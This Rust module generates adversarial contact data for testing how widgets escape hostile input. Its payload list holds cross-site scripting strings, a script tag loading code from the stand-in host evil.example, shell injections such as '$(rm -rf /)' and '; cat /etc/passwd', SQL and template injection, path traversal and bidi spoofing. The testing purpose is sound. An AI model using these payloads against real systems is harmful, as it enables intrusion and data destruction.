//! `--adversarial`: hostile strings in every free-text field a widget renders, so its
//! escaping is tested against the worst a provider could hand it. Script payloads call
//! `__cardfile_canary()`: a page that defines that function learns when one of them runs.

use crate::data::Person;

const LONG_A: &str = "WolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenbergerdorffWolfeschlegelsteinhausenberger";

static PAYLOADS: &[&str] = &[
    // Markup and script injection.
    "<script>__cardfile_canary()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=\"__cardfile_canary()\">",
    "<img src=x onerror=__cardfile_canary()>",
    "\"><svg onload=__cardfile_canary()>",
    "'><svg/onload=__cardfile_canary()>",
    "<svg><script>__cardfile_canary()</script></svg>",
    "<iframe src=\"javascript:__cardfile_canary()\"></iframe>",
    "<body onload=__cardfile_canary()>",
    "<details open ontoggle=__cardfile_canary()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__cardfile_canary()>",
    "<a href=\"javascript:__cardfile_canary()\">call me</a>",
    "javascript:__cardfile_canary()",
    "JaVaScRiPt:__cardfile_canary()",
    "data:text/html,<script>__cardfile_canary()</script>",
    "</textarea><script>__cardfile_canary()</script>",
    "</title><script>__cardfile_canary()</script>",
    "<style>*{display:none}</style>",
    "<input autofocus onfocus=__cardfile_canary()>",
    "<b>bold</b> <i>italic</i> &amp; &lt;entity&gt;",
    "&#60;script&#62;__cardfile_canary()&#60;/script&#62;",
    "\" onmouseover=\"__cardfile_canary()",
    "' onclick='__cardfile_canary()",
    "`${__cardfile_canary()}`",
    // tel: / mailto: smuggling.
    "+1 555<script>__cardfile_canary()</script>",
    "tel:+15550100\"><script>__cardfile_canary()</script>",
    "tel:javascript:__cardfile_canary()",
    "mailto:a@b.example?body=<script>__cardfile_canary()</script>",
    "mailto:victim@example.com%0ABcc:all@example.com",
    "+44 20 7946 0958\" onclick=\"__cardfile_canary()",
    // Template and expression injection.
    "{{constructor.constructor('__cardfile_canary()')()}}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{{html}}}",
    // SQL-ish and shell-ish.
    "Robert'); DROP TABLE contacts;--",
    "' OR '1'='1",
    "1; SELECT * FROM users WHERE 't'='t",
    "$(rm -rf /)",
    "; cat /etc/passwd",
    // Control, bidi and invisible characters.
    "Null\u{0000}Byte",
    "Bell\u{0007}and\u{001b}[31mescape",
    "\u{202E}gnp.exe\u{202C}",
    "admin\u{202E}nimda",
    "Zero\u{200B}Width\u{200C}Join\u{200D}ers\u{2060}",
    "\u{FEFF}BOM at start",
    "Line\nBreak\r\nAnd\tTab",
    "עברית mixed English 123 عربى",
    "\u{2067}isolate\u{2069} \u{2066}LTR\u{2069}",
    "Combining Z\u{0351}\u{0352}a\u{0353}l\u{0354}g\u{0355}o\u{0356}",
    // Emoji and astral characters.
    "👩‍👩‍👧‍👦🏳️‍🌈🇵🇹",
    "𝕳𝖊𝖑𝖑𝖔 𝔀𝓸𝓻𝓵𝓭",
    "😀<script>__cardfile_canary()</script>😀",
    // Lengths and odd shapes.
    LONG_A,
    "",
    " ",
    "null",
    "undefined",
    "NaN",
    "__proto__",
    "constructor",
    "[object Object]",
    "\\\"escaped\\\" \\u0000 \\n",
    "%3Cscript%3E__cardfile_canary()%3C%2Fscript%3E",
    "../../../../etc/passwd",
    "\u{FFFD}\u{FFFE}replacement",
];

/// The hostile strings `--adversarial` writes into names, companies, addresses and custom
/// field values.
pub fn adversarial_payloads() -> &'static [&'static str] {
    PAYLOADS
}

/// Rewrites every person's free-text fields with payloads; which payload lands where is a
/// function of the person's index, so the population stays deterministic.
pub(crate) fn poison(people: &mut [Person]) {
    let n = PAYLOADS.len();
    for p in people {
        let i = p.index;
        p.first_name = PAYLOADS[i % n].to_owned();
        p.last_name = PAYLOADS[(i * 7 + 3) % n].to_owned();
        p.company = Some(PAYLOADS[(i * 11 + 5) % n].to_owned());
        p.street = PAYLOADS[(i * 13 + 9) % n].to_owned();
        p.city = PAYLOADS[(i * 17 + 1) % n];
        p.postal_code = PAYLOADS[(i * 19 + 2) % n].to_owned();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn enough_distinct_payloads_with_the_canary() {
        let distinct: std::collections::HashSet<_> = PAYLOADS.iter().collect();
        assert_eq!(distinct.len(), PAYLOADS.len());
        assert!(PAYLOADS.len() >= 50);
        assert!(
            PAYLOADS
                .iter()
                .filter(|p| p.contains("__cardfile_canary"))
                .count()
                >= 20
        );
        assert!(LONG_A.len() >= 5000);
    }
}
